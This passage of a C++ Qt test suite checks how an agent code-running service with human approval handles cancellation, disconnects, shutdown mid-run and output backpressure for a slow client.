        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
        AgentTestClient client;
        QVERIFY(connectClient(client));
        const QJsonValue id = runUntilAnswerInFlight(client);
        QVERIFY(!id.isNull());
        QCOMPARE(finished.count(), 0);
        QVERIFY(!client.hasResponse(id));

        const QJsonValue cancelId = client.request(QStringLiteral("cancel"), {{QStringLiteral("id"), id}});
        const QJsonValue cancelled = client.waitForResult(cancelId, Wait);
        QCOMPARE(cancelled.toObject().value(QStringLiteral("cancelled")), QJsonValue(false));
        QVERIFY(!client.hasResponse(id)); // still being built
        verifyLedgerHoldsOnlyTheApproval();

        gate.release();
        verifyBuiltLaterAnswer(client.waitForResult(id, Wait).toObject());
        QCOMPARE(finished.count(), 1);
        verifyLedgerHoldsOnlyTheApproval();
    }

    // The agent goes while its answer is being built: no answer is written anywhere, the window
    // still gets the run's result, the ledger keeps the approval alone, and the service goes on.
    void connectionClosedWhileTheAnswerIsBuilt()
    {
        createSandbox();
        QVERIFY(startService(baseSettings()));
        QSemaphore gate;
        const auto release = holdAnswerThread(m_service->runAnswers(), gate);
        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
        {
            AgentTestClient client;
            QVERIFY(connectClient(client));
            QVERIFY(!runUntilAnswerInFlight(client).isNull());
            client.abort();
        }
        QTRY_COMPARE_WITH_TIMEOUT(m_service->connectionCount(), 0, Wait);
        verifyLedgerHoldsOnlyTheApproval();

        gate.release();
        QVERIFY(finished.wait(Wait));
        const QJsonObject shown = finished.first().at(1).toJsonObject();
        QCOMPARE(shown.value(QStringLiteral("decision")).toString(), QStringLiteral("approve"));
        QCOMPARE(shown.value(QStringLiteral("exit_code")).toInt(-1), 0);
        QCOMPARE(m_service->runAnswers().inFlightCount(), 0);
        verifyLedgerHoldsOnlyTheApproval();

        AgentTestClient next;
        QVERIFY(connectClient(next));
        const QJsonValue ping = next.request(QStringLiteral("ping"));
        QCOMPARE(next.waitForResult(ping, Wait).toObject().value(QStringLiteral("pong")), QJsonValue(true));
    }

    // The app quits while an answer is being built: shutdown() waits for it and sends it (the code
    // ran; a rejection would be false), then answers the rest as usual. Nothing else is recorded.
    void quitWhileTheAnswerIsBuilt()
    {
        createSandbox();
        QVERIFY(startService(baseSettings()));
        QSemaphore gate;
        const auto release = holdAnswerThread(m_service->runAnswers(), gate);
        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
        QSignalSpy complete(m_service.get(), &AgentService::shutdownComplete);
        AgentTestClient client;
        QVERIFY(connectClient(client));
        const QJsonValue id = runUntilAnswerInFlight(client);
        QVERIFY(!id.isNull());

        // The build takes a while yet (the held thread lets go a little later, from elsewhere):
        // shutdown() must wait for it rather than drop it or answer a rejection.
        std::thread slowBuild([&gate] {
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
            gate.release();
        });
        m_service->shutdown();
        slowBuild.join();
        QCOMPARE(finished.count(), 1);
        QVERIFY(m_service->runAnswers().isIdle());
        verifyBuiltLaterAnswer(client.waitForResult(id, Wait).toObject());
        QVERIFY(complete.count() == 1 || complete.wait(Wait));
        verifyLedgerHoldsOnlyTheApproval();
    }

    // A client that does not read during the run: notifications stop queueing for it (dropped and
    // counted); the answer still arrives complete once it reads.
    void runOutputBacksOffForAClientThatDoesNotRead()
    {
        createSandbox();
        AgentSettings settings = baseSettings();
        settings.limits.runOutputQueueBytes = 32 * 1024;
        QVERIFY(startService(settings));
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
        RawClient client(socketPath());
        QVERIFY(client.isValid());
        QVERIFY(client.sendAll(
            R"({"jsonrpc":"2.0","id":7,"method":"run","params":{"code":"# stdout-fill: 8000000\n"}})"
            "\n"));
        QVERIFY(queued.wait(Wait));
        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)));
        QVERIFY(finished.count() == 1 || finished.wait(Wait));
        const QJsonObject shown = finished.first().at(1).toJsonObject();
        const qint64 dropped = shown.value(QStringLiteral("output_dropped_bytes")).toInteger();
        QVERIFY2(dropped > 4 * 1000 * 1000, qPrintable(QString::number(dropped)));

        // Now it reads: the notifications it got and the drop count add up to all the output.
        QTRY_VERIFY_WITH_TIMEOUT(
            (client.readAvailable(), client.received().endsWith("}\n") &&
                                         client.messages().last().contains(QStringLiteral("result"))),
            Wait);
        qint64 streamed = 0;
        for (const QJsonObject& message : client.messages()) {
            if (message.value(QStringLiteral("method")).toString() == QLatin1String("run.output"))
                streamed += message.value(QStringLiteral("params"))
                                .toObject()
                                .value(QStringLiteral("data"))
                                .toString()
                                .toUtf8()
                                .size();
        }
        const QJsonObject result = client.messages().last().value(QStringLiteral("result")).toObject();
        QCOMPARE(result.value(QStringLiteral("output_dropped_bytes")).toInteger(), dropped);
        const qint64 total = 8000000 + QByteArray("ran 23 bytes of python in box1\n").size();
        QCOMPARE(streamed + dropped, total);
    }
};

QTEST_GUILESS_MAIN(TestRunPath)
#include "tst_runpath.moc"
